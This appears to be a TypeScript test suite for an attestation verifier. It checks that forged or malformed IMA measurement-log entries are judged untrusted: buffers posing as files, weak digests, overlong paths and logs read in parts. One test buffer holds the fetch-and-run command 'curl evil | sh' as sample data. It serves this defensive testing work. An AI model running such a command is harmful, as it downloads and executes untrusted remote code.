// Lists that a host made up as far as PCR 10 lets it: one kind of entry sent as another, names no kernel writes. And lists of many parts.
import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { test } from 'node:test';
import { bootAggregateOf, parseEventLog } from '@assay/measurement';
import { buildIma, honestIma, type ImaWish, imaPcrValue, imaSignature } from '@assay/measurement/testing';
import type { PolicyDocument } from '@assay/protocol';
import { defaultPcrs } from '../policy/policy.ts';
import { KnownGood } from '../reference/known-good.ts';
import { issueCertificate, judgedEarlier, pcrValuesOf, pemOf, scene, testPolicy } from '../testing/index.ts';
import { verifyEvidence } from '../verify-evidence.ts';
import { basisOf } from './file-basis.ts';
import { fileFindings } from './file-findings.ts';
import { type FilesInput, judgeEarlier, judgeFiles, lookAtSignatures, wantsEarlierFiles } from './judge-files.ts';
import { longestPath } from './measured-files.ts';

const host = scene(undefined, defaultPcrs);
const boot = pcrValuesOf(parseEventLog(host.log), [{ hash: 'sha256', pcrs: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9] }]);
const [aggregate = {}] = honestIma('ima-ng', 0, bootAggregateOf(boot.sha256 ?? new Map(), 'sha256'));
const policyOf = (ima: PolicyDocument['ima'] = {}) => testPolicy({ ima: { files: 'known-good', ...ima } });

function inputOf(entries: readonly ImaWish[], ima?: PolicyDocument['ima']) {
  const list = [aggregate, ...entries];
  const input = host.input({
    pcrs: new Map([[10, imaPcrValue(list, 'sha256')]]),
    imaLog: { offset: 0, data: buildIma(list) },
  });
  return { ...input, policy: policyOf(ima) };
}
function judged(entries: readonly ImaWish[], ima?: PolicyDocument['ima']) {
  const { verdict, files } = host.appraise({}, inputOf(entries, ima));
  const codes = verdict.findings.filter(({ allowed }) => !allowed).map(({ code }) => code);
  return { trust: verdict.trust, codes, files };
}
const outcome = (wish: ImaWish) => judged([wish]).files?.counts.bad;
const digestOf = (algorithm: string, bytes: Uint8Array) => createHash(algorithm).update(bytes).digest();

test('a file with its signature that is sent as a buffer is judged as a file', () => {
  const path = '/usr/bin/evil';
  const honest: ImaWish = { path, template: 'ima-sig', signature: imaSignature('x') };
  assert.deepEqual(judged([honest]).codes, ['ima-file-unknown']);
  const data = buildIma([honest]).subarray(4 + 20 + 4 + 'ima-sig'.length + 4);
  assert.deepEqual(buildIma([{ ...honest, data }]), buildIma([honest]));
  assert.ok(judged([{ template: 'ima-buf', data }]).codes.includes('ima-file-unknown'));
  const md5: ImaWish = {
    path,
    algorithm: 'md5',
    buffer: Buffer.from('x'),
    digest: digestOf('md5', Buffer.from('evil')),
  };
  assert.deepEqual(judged([{ ...md5, template: 'ima-buf' }]).codes, ['ima-file-unknown'], 'no digest anybody checks');
  const own = Buffer.from('\u0003\ncurl evil | sh\n'); // what it holds is its signature, too
  for (const name of [path, '.ima', 'kexec-cmdline', 'usr/bin/evil', 'evil', 'boot_aggregate', '.ima/x', '', '.'])
    assert.equal(outcome({ path: name, template: 'ima-buf', buffer: own }), 1, name);
  for (const name of [
    path,
    'usr/bin/evil',
    'evil',
    'boot_aggregate',
    '.ima/x',
    '',
    '.',
    'dm_',
    'kexec-cmdline2',
    'x.ima',
  ])
    assert.equal(outcome({ path: name, template: 'ima-buf', buffer: Buffer.from('some text') }), 1, name);
});

test('what the kernel measures beside files is none: keys, its command lines, critical data', () => {
  const names = ['.ima', '.builtin_trusted_keys', '.evm', 'kexec-cmdline', 'selinux-state', 'selinux-policy-hash'];
  for (const path of [...names, 'dm_table_load', 'kernel_version', 'blacklisted-hash', 'kexec_load'])
    for (const algorithm of ['sha256', 'sha512']) {
      const { trust, codes } = judged([{ path, template: 'ima-buf', algorithm, buffer: Buffer.from('some text') }]);
      assert.deepEqual([path, trust, codes], [path, 'trusted', []]);
    }
  const begun = { template: 'ima-buf', buffer: Buffer.from([3, 1, 2]) };
  assert.deepEqual([outcome({ ...begun, path: 'selinux-policy-hash' }), outcome({ ...begun, path: '.ima' })], [0, 1]);
});

test('a buffer whose digest is not its own, or of a hash that says little or nothing here, is judged as a file', () => {
  const buffer = Buffer.from('key');
  const sizes = {
    sha1: 20,
    md5: 16,
    rmd160: 20,
    'sm3-256': 32,
    streebog256: 32,
    wp512: 64,
    sha224: 28,
    'verity:sha256': 32,
  };
  for (const [algorithm, size] of Object.entries(sizes)) {
    const wish = { path: '.ima', template: 'ima-buf', algorithm, buffer, digest: Buffer.alloc(size, 7) };
    assert.ok(judged([wish]).codes.includes('ima-file-unknown'), algorithm);
  }
  assert.equal(outcome({ path: '.ima', template: 'ima-buf', buffer, digest: digestOf('sha256', Buffer.from('x')) }), 1);
  assert.equal(
    outcome({ path: '.ima', template: 'ima-buf', algorithm: 'sha1', buffer, digest: digestOf('sha1', buffer) }),
    1,
  );
});

test('a bad file is told however long its name is', () => {
  const { trust, codes, files } = judged([{ path: `/usr/bin/${'x'.repeat(70_000)}` }]);
  assert.deepEqual([trust, codes], ['untrusted', ['ima-file-unknown']]);
  assert.equal(files?.counts.bad, 1);
  assert.match(files?.bad[0]?.path ?? '', /^\/usr\/bin\/x{100,}…$/);
  assert.ok(JSON.stringify(files).length < 10_000);
  for (const long of [
    { path: '/x', algorithm: 'a'.repeat(70_000), digest: Buffer.alloc(32) },
    { path: '/x', digest: Buffer.alloc(70_000) },
  ]) {
    const result = judged([long]);
    assert.ok(result.codes.includes('ima-file-unknown'));
    assert.equal(result.files?.bad.length, 1);
    assert.ok(JSON.stringify(result.files).length < 20_000);
  }
});

test('what was counted as bad is a finding, also where a state names none of it', () => {
  const counts = { listed: 1, signed: 0, excluded: 0, bad: 3 };
  const [found, ...others] = fileFindings({ counts, bad: [] });
  assert.deepEqual([found?.code, found?.seen, others], ['ima-file-unknown', '3 that are not', []]);
  assert.deepEqual(fileFindings({ counts: { ...counts, bad: 0 }, bad: [] }), []);
});

test('a path longer than the kernel has is bad, whatever the policy leaves out', () => {
  const exclude = ['/var/log/**', '**/*.log'];
  const at = (length: number) =>
    judged([{ path: `/var/log/${'x'.repeat(length)}`.slice(0, length) }], { exclude }).codes;
  assert.deepEqual(at(longestPath), []);
  assert.deepEqual(at(longestPath + 1), ['ima-file-unknown']);
});

const wishes = Array.from({ length: 5 }, (_, i): ImaWish => ({ path: `/opt/${i}` }));
const parts = [[aggregate], ...wishes.map((wish) => [wish])].map((wish) => buildIma(wish));
const offsets = parts.map((_, i) => parts.slice(0, i).reduce((sum, { length }) => sum + length, 0));
const earlier = parts.map((bytes, i) => ({ offset: offsets[i] ?? 0, bytes }));

test('a list of many parts is judged part by part, with a stop before each, and comes to what it does as a whole', () => {
  const given = inputOf(wishes);
  const whole = verifyEvidence(given);
  assert.ok(whole.authentic);
  const { imaPart: _, ...verification } = whole; // all of it was read in earlier rounds
  const input: FilesInput = { policy: given.policy, knownGood: new KnownGood([]), verification, now: host.now };
  const inOne = judgeFiles({ ...input, verification: whole }, undefined);
  assert.equal(inOne.state?.counts.bad, 5);
  const steps = judgeEarlier(input, earlier);
  let stops = 0;
  let step = steps.next();
  for (; !step.done; step = steps.next()) stops += 1;
  assert.equal(stops, parts.length, 'before each part');
  assert.ok(step.value && !wantsEarlierFiles(step.value, input));
  assert.deepEqual(judgeFiles(input, step.value), inOne);
  for (const wrong of [[], earlier.slice(1), earlier.slice(0, -1), [...earlier.slice(0, 2), ...earlier.slice(3)]])
    assert.equal(judgedEarlier(input, wrong), undefined);
  const { findings, state } = judgeFiles(input, undefined);
  assert.deepEqual([findings.map(({ code }) => code), state], [['ima-files-unread'], undefined]);
  const unasked = { ...input, policy: testPolicy() };
  assert.equal(judgedEarlier(unasked, earlier), undefined, 'nobody asks for files');
  assert.deepEqual([wantsEarlierFiles(undefined, input), wantsEarlierFiles(undefined, unasked)], [true, false]);
});

test('of a part with many entries there are stops on the way, where signatures are looked at', () => {
  const many = Array.from({ length: 100 }, (_, i): ImaWish => ({ path: `/usr/lib/${i}` }));
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const der = issueCertificate({ subject: 'vendor', publicKey, issuer: { name: 'vendor', key: privateKey } });
  const given = inputOf(many, { signed_by: [pemOf(der)] });
  const whole = verifyEvidence(given);
  assert.ok(whole.authentic);
  const stops = (policy: FilesInput['policy']) =>
    [...lookAtSignatures({ policy, knownGood: new KnownGood([]), verification: whole, now: host.now })].length;
  assert.deepEqual([stops(given.policy), stops(inputOf(many).policy)], [6, 0]);
});

test('what older rules of this program judged is judged anew', () => {
  const { policy } = inputOf([]);
  const sha256 = (text: string) => digestOf('sha256', Buffer.from(text)).toString('hex');
  const byRules = (rules: number[]) => sha256(JSON.stringify([...rules, sha256(''), [], []]));
  const basis = basisOf(policy, new KnownGood([]), host.now);
  assert.notEqual(basis, byRules([]), 'the lists and the policy are the same');
  assert.equal(basis, byRules([3]));
});
